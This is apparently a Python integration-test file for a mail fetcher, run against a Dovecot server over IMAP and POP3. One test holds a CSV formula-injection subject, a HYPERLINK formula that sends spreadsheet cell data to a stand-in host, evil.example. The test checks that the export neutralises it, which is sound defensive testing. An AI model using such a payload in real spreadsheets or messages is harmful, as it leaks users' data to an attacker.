"""mailroom fetch against a real Dovecot: keep copy leaves the server as it
was, no keep copy empties it, every message is stored exactly once and byte
for byte, in every security mode, for IMAP and POP3."""
import base64
import hashlib
import json
import os
import re
import subprocess
import unittest

from helpers import BIN, MailTestCase, crlf, message, server, stop_servers


def tearDownModule():
    stop_servers()


def sha(raw):
    return hashlib.sha256(crlf(raw)).hexdigest()


class FetchTest(MailTestCase):
    def assert_stored_exactly(self, raws):
        """The inbox holds each of raws once, byte-identical to what the
        server served, and nothing else."""
        inbox = self.inbox()
        self.assertEqual(sorted(m["sha256"] for m in inbox), sorted(sha(r) for r in raws))
        for m in inbox[:3]:  # and the raw bytes themselves, for a few
            self.assertEqual(hashlib.sha256(self.raw(m["id"])).hexdigest(), m["sha256"])

    def test_keep_copy_imap_leaves_the_server_unchanged(self):
        raws = [message(i) for i in range(5)]
        self.deliver(raws)
        self.account("keep", "imap", "tls")
        self.ok("account", "test", "keep")  # let Dovecot move new/ to cur/ first
        before = self.d.snapshot(self.user)
        run, _ = self.fetch("keep")
        self.assertEqual((run["fetched"], run["deleted"]), (5, 0))
        self.assertEqual(self.d.snapshot(self.user), before)  # names carry the flags too
        run, _ = self.fetch("keep")
        self.assertEqual(run["fetched"], 0)
        self.assert_stored_exactly(raws)

    def test_keep_copy_pop3(self):
        raws = [message(i) for i in range(4)]
        self.deliver(raws)
        self.account("keep", "pop3", "starttls")
        run, _ = self.fetch("keep")
        self.assertEqual((run["fetched"], run["deleted"]), (4, 0))
        self.assertEqual(self.fetch("keep")[0]["fetched"], 0)
        self.assertEqual(self.d.message_count(self.user), 4)
        self.assert_stored_exactly(raws)

    def test_no_keep_copy_empties_the_server(self):
        for proto, security in (("imap", "starttls"), ("pop3", "none"), ("imap", "none"),
                                ("pop3", "tls")):
            with self.subTest(proto=proto, security=security):
                self.setUp()  # a fresh user and data directory each time
                raws = [message(i) for i in range(6)]
                self.deliver(raws)
                self.account("move", proto, security, "--keep-copy", "no")
                run, _ = self.fetch("move")
                self.assertEqual((run["fetched"], run["deleted"]), (6, 6))
                self.assertEqual(self.d.message_count(self.user), 0)
                self.assertEqual(self.fetch("move")[0]["fetched"], 0)
                self.assert_stored_exactly(raws)

    def test_folders_with_either_delimiter(self):
        self.d.create_folder(self.user, "INBOX.Support")
        raws = [message(i, subject="support") for i in range(2)]
        self.deliver(raws, folder="INBOX.Support")
        self.deliver([message(9, subject="inbox")])
        for name, folder in (("dots", "INBOX.Support"), ("slashes", "INBOX/Support")):
            self.account(name, "imap", "tls", "--folder", folder)
            run, _ = self.fetch(name)
            self.assertEqual(run["fetched"], 2, folder)
        subjects = {m["subject"] for m in self.inbox()}
        self.assertEqual(subjects, {"support"})

    def test_folder_on_a_slash_server(self):
        slash = server("slash", separator="/")
        user = slash.take_user()
        self.add_credential("slash-login", password=self.password, username=user)
        slash.create_folder(user, "INBOX/Support")
        slash.deliver(user, message(1, subject="via slash"), folder="INBOX/Support")
        for name, folder in (("s1", "INBOX/Support"), ("s2", "INBOX.Support")):
            self.json("account", "add", "--name", name, "--protocol", "imap", "--address",
                      "127.0.0.1", "--port", str(slash.ports["imaps"]), "--credential",
                      "slash-login", "--skip-certificate", "yes", "--folder", folder)
            self.assertEqual(self.fetch(name)[0]["fetched"], 1)

    def test_encoded_headers_decode(self):
        raws = [
            b"From: =?UTF-8?B?Sm9zw6kgU2lsdmE=?= <jose@example.com>\r\n"
            b"Subject: =?ISO-8859-1?Q?Solicita=E7=E3o_de_acesso?=\r\n\r\nbody\r\n",
            b"From: plain@example.com\r\nSubject: =?UTF-8?B?5pel5pys6Kqe?= and text\r\n"
            b"Content-Type: text/plain; charset=iso-8859-1\r\n"
            b"Content-Transfer-Encoding: quoted-printable\r\n\r\nCaf=E9\r\n",
            b"From: raw8bit@example.com\r\nSubject: caf\xe9 undeclared\r\n\r\n\xe9t\xe9\r\n",
        ]
        self.deliver(raws)
        self.account("enc", "imap", "tls")
        self.fetch("enc")
        by_from = {m["from"]: m for m in self.inbox()}
        self.assertEqual(by_from["José Silva <jose@example.com>"]["subject"],
                         "Solicitação de acesso")
        self.assertEqual(by_from["plain@example.com"]["subject"], "日本語 and text")
        self.assertEqual(by_from["raw8bit@example.com"]["subject"], "café undeclared")
        shown = self.json("inbox", "show", str(by_from["plain@example.com"]["id"]))
        self.assertIn("Café", shown["text"])
        self.assert_stored_exactly(raws)  # decoded for reading, stored as received

    def test_formula_subjects_are_text_in_the_csv(self):
        """A sender chooses the subject: in the inbox CSV a cell that a
        spreadsheet would run as a formula starts with an apostrophe; the
        JSON and the stored bytes keep it as sent."""
        import csv
        import io
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
        raws = [f"From: x@example.com\r\nSubject: {hostile}\r\n\r\nhi\r\n".encode(),
                b"From: @attacker <a@example.com>\r\nSubject: -1+1\r\n\r\nhi\r\n"]
        self.deliver(raws)
        self.account("csv", "imap", "none")
        self.fetch("csv")
        self.assertEqual(sorted(m["subject"] for m in self.inbox()), sorted([hostile, "-1+1"]))
        out = subprocess.run([BIN, "--data", self.data, "inbox", "list", "--format", "csv"],
                             capture_output=True, text=True, check=True, timeout=60).stdout
        rows = list(csv.reader(io.StringIO(out, newline="")))
        subject = rows[0].index("Subject")
        self.assertEqual(sorted(r[subject] for r in rows[1:]), sorted(["'" + hostile, "'-1+1"]))
        for row in rows[1:]:
            self.assertFalse(any(cell[:1] in ("=", "+", "-", "@") for cell in row), row)
        self.assert_stored_exactly(raws)

    def test_large_attachment(self):
        payload = os.urandom(20 * 1024 * 1024)
        encoded = base64.encodebytes(payload).replace(b"\n", b"\r\n")
        raw = (b"From: big@example.com\r\nSubject: twenty megabytes\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: multipart/mixed; boundary=XYZ\r\n\r\n--XYZ\r\n"
               b"Content-Type: text/plain\r\n\r\nsee attached\r\n--XYZ\r\n"
               b"Content-Type: application/octet-stream\r\n"
               b"Content-Disposition: attachment; filename=\"data.bin\"\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded + b"--XYZ--\r\n")
        self.deliver([raw])
        self.account("big", "imap", "tls", "--keep-copy", "no")
        run, _ = self.fetch("big")
        self.assertEqual((run["fetched"], run["deleted"]), (1, 1))
        m = self.inbox()[0]
        self.assertEqual(m["sha256"], sha(raw))
        detail = self.json("inbox", "show", str(m["id"]))
        self.assertEqual(detail["attachment_list"][0]["filename"], "data.bin")
        self.assertEqual(detail["attachment_list"][0]["size"], len(payload))
        out = subprocess.run([BIN, "--data", self.data, "inbox", "attachment", str(m["id"]), "1"],
                             capture_output=True, timeout=120)
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual(hashlib.sha256(out.stdout).digest(), hashlib.sha256(payload).digest())

    def test_oversize_messages_stay_on_the_server(self):
        small, big = message(1), message(2, body=b"x" * 5000 + b"\r\n")
        self.deliver([small, big])
        self.account("cap", "pop3", "tls", "--keep-copy", "no", "--max-message-size", "2048")
        run, _ = self.fetch("cap")
        self.assertEqual((run["fetched"], run["skipped"], run["deleted"]), (1, 1, 1))
        self.assertEqual(self.d.message_count(self.user), 1)  # the big one is left
        run, _ = self.fetch("cap")
        self.assertEqual((run["fetched"], run["skipped"]), (0, 1))
        self.assert_stored_exactly([small])
        # the processing report: recorded once, with the server's id for it
        out = subprocess.run([BIN, "--data", self.data, "inbox", "skipped", "--account", "cap",
                              "--format", "json"], capture_output=True, text=True, timeout=60)
        self.assertEqual(out.returncode, 0, out.stderr)
        report = json.loads(out.stdout)
        self.assertEqual(report["total"], 1)
        self.assertEqual(report["skipped"][0]["reason"], "too big")
        self.assertIsNotNone(report["skipped"][0]["uidl"])  # POP3: by UIDL
        self.assertGreater(report["skipped"][0]["size"], 5000)
        out = subprocess.run([BIN, "--data", self.data, "inbox", "list", "--status", "lost"],
                             capture_output=True, text=True, timeout=60)
        self.assertEqual(out.returncode, 1)
        self.assertIn("status: expected stored, parse_failed or size_mismatch", out.stderr)

    def test_account_with_mail_is_not_removed_by_accident(self):
        self.deliver([message(1)])
        self.account("acc", "imap", "tls")
        self.fetch("acc")
        self.fails("account", "rm", "acc", message="has 1 stored messages")
        self.assertEqual(self.json("inbox", "list")["total"], 1)
        self.ok("account", "rm", "acc", "--delete-messages")
        self.assertEqual(self.json("inbox", "list")["total"], 0)

    def test_one_run_per_account_at_a_time(self):
        self.deliver([message(i) for i in range(300)])
        self.account("par", "imap", "tls", "--keep-copy", "no")
        runs = [subprocess.Popen([BIN, "--data", self.data, "fetch", "par", "--format", "json"],
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                for _ in range(3)]
        outs = [(p.wait(timeout=300), *p.communicate()) for p in runs]
        busy = [o for o in outs if o[0] != 0]
        for rc, out, err in busy:
            self.assertIn("another fetch of this account is running", err)
        self.assertLess(len(busy), 3)
        self.assertEqual(self.json("inbox", "list")["total"], 300)
        self.assertEqual(self.d.message_count(self.user), 0)

    def test_uidvalidity_change_stores_nothing_twice(self):
        raws = [message(i) for i in range(3)]
        self.deliver(raws)
        self.account("uv", "imap", "tls")
        self.assertEqual(self.fetch("uv")[0]["fetched"], 3)
        # the server renumbers its messages: a new UIDVALIDITY, the same mail
        self.d.set_uidvalidity(self.user, 4242)
        more = message(7)
        self.deliver([more])
        run, _ = self.fetch("uv")
        self.assertEqual((run["fetched"], run["duplicates"]), (1, 3))
        self.assert_stored_exactly(raws + [more])
        self.assertEqual(self.fetch("uv")[0]["fetched"], 0)

    def test_trace_redacts_secrets(self):
        self.deliver([message(1)])
        for proto, auth in (("imap", "PLAIN"), ("imap", "auto"), ("pop3", "USER"),
                            ("pop3", "CRAM-MD5")):
            name = f"t-{proto}-{auth}"
            self.account(name, proto, "none", "--auth", auth)
            _, r = self.fetch(name, "--trace")
            self.assertIn("C: ", r.stderr)
            self.assertIn("<redacted>", r.stderr)
            secret = self.password
            plain_ir = base64.b64encode(f"\0{self.user}\0{secret}".encode()).decode()
            for leak in (secret, plain_ir):
                self.assertNotIn(leak, r.stderr + r.stdout)
            self.assertNotIn(secret.encode(), self.files_text())

    def test_memory_stays_flat(self):
        """Peak RSS fetching 5,000 messages is about that of 500."""
        peaks = {}
        for n in (500, 5000):
            self.setUp()
            self.deliver([message(i, body=b"line of text\r\n" * 40) for i in range(n)])
            self.account("many", "imap", "tls", "--keep-copy", "no")
            env = dict(self.env, ASAN_OPTIONS="quarantine_size_mb=4:detect_leaks=1")
            r = subprocess.run(["/usr/bin/time", "-f", "maxrss=%M", BIN, "--data", self.data,
                                "fetch", "many"], capture_output=True, text=True, env=env,
                               timeout=600)
            self.assertEqual(r.returncode, 0, r.stderr[-2000:])
            self.assertIn(f"{n} new messages stored", r.stdout)
            peaks[n] = int(re.search(r"maxrss=(\d+)", r.stderr).group(1))
            self.assertEqual(self.d.message_count(self.user), 0)
        # ten times the mail, not ten times the memory (ASan build: generous slack)
        self.assertLess(peaks[5000], peaks[500] * 1.5 + 16 * 1024, peaks)


if __name__ == "__main__":
    unittest.main()
